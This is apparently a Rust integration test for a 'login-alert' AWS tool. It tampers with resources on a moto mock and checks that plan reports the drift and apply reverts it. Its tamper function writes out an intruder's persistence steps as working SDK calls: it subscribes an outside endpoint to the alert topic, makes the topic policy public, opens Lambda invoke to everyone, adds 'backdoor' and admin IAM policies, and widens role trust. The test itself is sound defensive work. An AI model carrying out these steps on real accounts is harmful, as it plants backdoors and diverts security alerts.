//! Security drift through the real `login-alert` binary against moto: after `apply`, the changes an
//! intruder would make to what login-alert owns — an outside HTTPS subscription on its topic, a
//! topic policy open to everyone, a Lambda permission for `Principal: "*"`, a second inline policy
//! and an attached admin policy on the function's role, a widened trust on both roles —
//! each show in `plan` as a `-` line naming what goes; `apply` puts back exactly the declared state;
//! a second `apply` makes zero write calls (counted by moto's recorder).
//!
//! Where moto differs from AWS: SNS confirms an HTTPS subscription at once (AWS keeps it
//! `PendingConfirmation` until the endpoint confirms, and it cannot be deleted until then — that
//! case is a notice, unit-tested in `topic.rs`); moto's default topic policy adds `SNS:Receive` to
//! the one AWS gives, which does not matter here because login-alert sets its policy in CreateTopic.

use crate::support;

use std::path::Path;

use predicates::prelude::*;
use predicates::str::contains;
use serde_json::{Value, json};
use support::{Account, fresh_account, workdir};

const REGION: &str = "us-east-1";
const HOOK: &str = "https://collector.example.net/sns";

fn topic_arn(account: &Account) -> String {
    format!("arn:aws:sns:{REGION}:{}:login-alert-alerts", account.id)
}

/// What an intruder with admin rights does to keep a way in and to hear every alert.
async fn tamper(account: &Account) {
    let sdk = account.sdk(REGION);
    let sns = aws_sdk_sns::Client::new(&sdk);
    let topic = topic_arn(account);
    sns.subscribe()
        .topic_arn(&topic)
        .protocol("https")
        .endpoint(HOOK)
        .send()
        .await
        .expect("subscribe an outside endpoint");
    let mut policy: Value = serde_json::from_str(
        sns.get_topic_attributes()
            .topic_arn(&topic)
            .send()
            .await
            .unwrap()
            .attributes
            .unwrap()["Policy"]
            .as_str(),
    )
    .unwrap();
    policy["Statement"].as_array_mut().unwrap().push(json!({
        "Sid": "public",
        "Effect": "Allow",
        "Principal": {"AWS": "*"},
        "Action": ["SNS:Publish", "SNS:Subscribe"],
        "Resource": topic
    }));
    sns.set_topic_attributes()
        .topic_arn(&topic)
        .attribute_name("Policy")
        .attribute_value(policy.to_string())
        .send()
        .await
        .expect("open the topic policy");

    aws_sdk_lambda::Client::new(&sdk)
        .add_permission()
        .function_name("login-alert-handler")
        .statement_id("open")
        .action("lambda:InvokeFunction")
        .principal("*")
        .send()
        .await
        .expect("let anyone invoke the function");

    let iam = aws_sdk_iam::Client::new(&sdk);
    iam.put_role_policy()
        .role_name("login-alert-handler")
        .policy_name("backdoor")
        .policy_document(
            json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "iam:*", "Resource": "*"}]})
                .to_string(),
        )
        .send()
        .await
        .expect("a second inline policy");
    let admin = iam
        .create_policy()
        .policy_name("Admin")
        .policy_document(
            json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
                .to_string(),
        )
        .send()
        .await
        .expect("a customer-managed admin policy")
        .policy
        .and_then(|p| p.arn)
        .unwrap();
    iam.attach_role_policy()
        .role_name("login-alert-handler")
        .policy_arn(&admin)
        .send()
        .await
        .expect("attach it");
    // Widen both roles' trust: another account may assume the CloudTrail role, EC2 the function's.
    for (role, service, intruder) in [
        (
            "login-alert-cloudtrail-to-logs",
            "cloudtrail.amazonaws.com",
            json!({"AWS": "arn:aws:iam::999999999999:root"}),
        ),
        (
            "login-alert-handler",
            "lambda.amazonaws.com",
            json!({"Service": "ec2.amazonaws.com"}),
        ),
    ] {
        let trust = json!({"Version": "2012-10-17", "Statement": [
            {"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"},
            {"Effect": "Allow", "Principal": intruder, "Action": "sts:AssumeRole"}
        ]});
        iam.update_assume_role_policy()
            .role_name(role)
            .policy_document(trust.to_string())
            .send()
            .await
            .expect("widen the trust");
    }
}

fn init_and_apply(account: &Account, dir: &Path) {
    account
        .cli(dir)
        .args(["init", "--yes", "--create-trail", "--region", REGION])
        .args(["--email", "secops@example.com"])
        .assert()
        .success();
    account.cli(dir).args(["apply", "--yes"]).assert().success();
    account
        .cli(dir)
        .args(["plan", "--detailed-exitcode"])
        .assert()
        .code(0);
}

#[tokio::test(flavor = "multi_thread")]
async fn security_drift_is_shown_removed_and_then_left_alone() {
    let account = fresh_account().await;
    let dir = workdir();
    let dir = dir.path();
    init_and_apply(&account, dir);
    tamper(&account).await;
    let id = &account.id;

    // plan shows each as a change naming what goes, and only reads.
    let mark = account.requests().len();
    let topic = topic_arn(&account);
    account
        .cli(dir)
        .args(["plan", "--detailed-exitcode"])
        .assert()
        .code(2)
        .stdout(contains(format!(
            "- SNS subscription {HOOK} will be destroyed"
        )))
        .stdout(contains("- protocol = \"https\""))
        .stdout(contains(
            "~ SNS topic login-alert-alerts will be updated in place",
        ))
        .stdout(contains(format!(
            "- access_policy = \"[public] Allow AWS:* SNS:Publish,SNS:Subscribe on {topic}\""
        )))
        .stdout(contains(
            "- Lambda permission open on login-alert-handler will be destroyed",
        ))
        .stdout(contains("- principal = \"*\""))
        .stdout(contains(
            "~ IAM role login-alert-handler will be updated in place",
        ))
        .stdout(contains("- inline_policy = \"backdoor: iam:* on *\""))
        .stdout(contains(
            "- trust = \"Allow Service:ec2.amazonaws.com sts:AssumeRole\"",
        ))
        .stdout(contains(format!(
            "- managed_policy = \"arn:aws:iam::{id}:policy/Admin\""
        )))
        .stdout(contains(
            "~ IAM role login-alert-cloudtrail-to-logs will be updated in place",
        ))
        .stdout(contains(
            "- trust = \"Allow AWS:arn:aws:iam::999999999999:root sts:AssumeRole\"",
        ))
        .stdout(contains("Plan: 0 to add, 3 to change, 2 to destroy."));
    assert_eq!(
        account.writes_since(mark),
        Vec::<String>::new(),
        "plan must only read"
    );

    account.cli(dir).args(["apply", "--yes"]).assert().success();

    // Exactly the declared state again.
    let sdk = account.sdk(REGION);
    let sns = aws_sdk_sns::Client::new(&sdk);
    let subscriptions: Vec<(String, String)> = sns
        .list_subscriptions_by_topic()
        .topic_arn(&topic)
        .send()
        .await
        .unwrap()
        .subscriptions
        .unwrap_or_default()
        .into_iter()
        .map(|s| (s.protocol.unwrap(), s.endpoint.unwrap()))
        .collect();
    assert_eq!(
        subscriptions,
        [("email".to_owned(), "secops@example.com".to_owned())]
    );
    let policy: Value = serde_json::from_str(
        sns.get_topic_attributes()
            .topic_arn(&topic)
            .send()
            .await
            .unwrap()
            .attributes
            .unwrap()["Policy"]
            .as_str(),
    )
    .unwrap();
    assert!(
        login_alert::resources::policies::same_policy(
            &policy,
            &login_alert::resources::policies::topic_access(id, &topic)
        ),
        "{policy}"
    );
    let function_policy: Value = serde_json::from_str(
        &aws_sdk_lambda::Client::new(&sdk)
            .get_policy()
            .function_name("login-alert-handler")
            .send()
            .await
            .unwrap()
            .policy
            .unwrap(),
    )
    .unwrap();
    let sids: Vec<&str> = function_policy["Statement"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["Sid"].as_str())
        .collect();
    // The mode's sender and the digest schedule: the stranger's statement is gone.
    assert_eq!(sids, ["login-alert-cloudwatch-logs", "login-alert-digest"]);
    let iam = aws_sdk_iam::Client::new(&sdk);
    let inline = iam
        .list_role_policies()
        .role_name("login-alert-handler")
        .send()
        .await
        .unwrap()
        .policy_names;
    assert_eq!(inline, ["login-alert"]);
    let attached = iam
        .list_attached_role_policies()
        .role_name("login-alert-handler")
        .send()
        .await
        .unwrap()
        .attached_policies
        .unwrap_or_default();
    assert!(attached.is_empty(), "{attached:?}");
    for (role, intruder) in [
        ("login-alert-cloudtrail-to-logs", "999999999999"),
        ("login-alert-handler", "ec2.amazonaws.com"),
    ] {
        let trust = iam
            .get_role()
            .role_name(role)
            .send()
            .await
            .unwrap()
            .role
            .unwrap()
            .assume_role_policy_document
            .unwrap();
        assert!(!trust.contains(intruder), "{role}: {trust}");
    }

    // Nothing left to do: a second apply writes nothing.
    let mark = account.requests().len();
    account
        .cli(dir)
        .args(["apply", "--yes"])
        .assert()
        .success()
        .stdout(contains("No changes."))
        .stdout(contains("will be").not());
    let since = account.requests().split_off(mark);
    assert!(
        since.iter().any(|r| r.service == "iam"),
        "the recorder saw the second apply's reads: {since:?}"
    );
    assert_eq!(
        account.writes_since(mark),
        Vec::<String>::new(),
        "a second apply makes zero write calls"
    );

    account
        .cli(dir)
        .args(["destroy", "--yes"])
        .assert()
        .success();
    assert_eq!(account.tagged(REGION).await, Vec::<String>::new());
}
